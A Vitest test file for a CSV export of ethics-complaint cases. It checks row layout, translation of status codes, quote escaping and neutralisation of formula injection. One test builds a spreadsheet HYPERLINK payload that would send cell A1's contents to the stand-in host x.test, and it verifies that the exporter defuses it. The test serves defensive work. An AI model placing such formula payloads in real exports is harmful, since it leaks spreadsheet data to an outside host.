import { describe, expect, it } from 'vitest';
import { aCase } from '../test/fixtures';
import { casesToCsv } from './case-export';

describe('CSV export of cases', () => {
  it('writes one row per case with domain codes worded in the chosen language', async () => {
    const csv = (await casesToCsv([aCase()], 'id')).split('\n');
    expect(csv).toHaveLength(2);
    expect(csv[0]).toMatch(/^registerNumber,status,source,/);
    expect(csv[1]).toContain('0007/ETIK/3526/2024,Menunggu rapat pleno,Pengaduan masyarakat');
    expect(csv[1]).toContain('Siti Aminah; Budi Santoso');
    expect(await casesToCsv([aCase()], 'en')).toContain('Awaiting plenary');
  });

  it('quotes cells holding commas or quotes', async () => {
    const csv = await casesToCsv(
      [aCase({ commission: { id: 'k', level: 'regency', name: 'KPU "Kota", Banda Aceh' } })],
      'id',
    );
    expect(csv).toContain('"KPU ""Kota"", Banda Aceh"');
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'neutralises a cell starting with %j: a quote first, and the cell quoted',
    async (start) => {
      const name = `${start}HYPERLINK("http://x.test/?"&A1,"klik")`;
      const [respondent] = aCase().respondents;
      const csv = await casesToCsv(
        [
          aCase({
            respondents: [{ ...respondent!, name }],
            commission: { id: 'k', level: 'regency', name: `${start}1+1` },
          }),
        ],
        'id',
      );
      expect(csv).toContain(`,"'${start}HYPERLINK(""http://x.test/?""&A1,""klik"")",`);
      expect(csv).toContain(`,"'${start}1+1",`);
      // No cell starts with the character itself.
      expect(csv).not.toContain(`,${start}`);
      expect(csv).not.toContain(`,"${start}`);
    },
  );

  it('leaves a formula character inside a cell alone', async () => {
    const [respondent] = aCase().respondents;
    const csv = await casesToCsv(
      [aCase({ respondents: [{ ...respondent!, name: 'Siti =Aminah-Putri' }] })],
      'id',
    );
    expect(csv).toContain(',Siti =Aminah-Putri,');
  });
});
